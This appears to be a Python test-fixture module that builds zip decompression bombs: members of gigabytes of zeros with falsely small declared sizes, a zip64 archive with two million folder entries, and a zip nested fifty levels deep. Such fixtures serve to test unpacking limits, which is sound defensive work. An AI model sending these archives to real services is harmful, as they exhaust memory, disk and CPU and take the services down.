"""Zips that are small and unpack to very much, or hold very many members."""

import bz2
import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

MIB = 2**20
STORED, DEFLATED, BZIP2 = 0, 8, 12


def undeclared_zeros(mib: int = 256) -> bytes:
    """A bzip2 member of so many MiB of zeros, declared as 100 bytes."""
    packer, packed = bz2.BZ2Compressor(9), b""
    for _ in range(mib // 16):
        packed += packer.compress(bytes(16 * MIB))
    return _one_member(packed + packer.flush(), 100, BZIP2)


def zeros(gib: int = 8) -> bytes:
    """A deflated member of so many GiB of zeros, declared as 1 MiB."""
    packer, piece = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(MIB)
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)  # which can be repeated
    return _one_member(block * (gib * 1024) + packer.flush(), MIB, DEFLATED)


def folder_entries(count: int = 2_000_000) -> bytes:
    """So many entries of folders, in a zip64 archive."""
    entry = _central(b"0000000/", 0, 0, STORED)[: -len(b"0000000/")]
    central = b"".join(entry + b"%07d/" % n for n in range(count))
    size = len(central)
    zip64 = struct.pack("<4sQHHLLQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, 0)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, size, 1)
    end = struct.pack("<4sHHHHLLH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return central + zip64 + locator + end


def deep_zip(depth: int = 50) -> bytes:
    """A zip in a zip in a zip …"""
    content = zeros(1)
    for _ in range(depth):
        buffer = BytesIO()
        with ZipFile(buffer, "w", ZIP_DEFLATED) as archive:
            archive.writestr("inner.zip", content)
        content = buffer.getvalue()
    return content


def _one_member(packed: bytes, declared: int, method: int) -> bytes:
    name = b"a.dcm"
    common = struct.pack(
        "<HHHHHLLLHH", 46, 0, method, 0, 0x21, 0, len(packed), declared, len(name), 0
    )
    local = b"PK\3\4" + common + name + packed
    central = _central(name, len(packed), declared, method)
    end = struct.pack("<4sHHHHLLH", b"PK\5\6", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def _central(name: bytes, packed: int, declared: int, method: int) -> bytes:
    common = struct.pack("<HHHHHLLLHH", 46, 0, method, 0, 0x21, 0, packed, declared, len(name), 0)
    return b"PK\1\2" + struct.pack("<H", 46) + common + struct.pack("<HHHLL", 0, 0, 0, 0, 0) + name
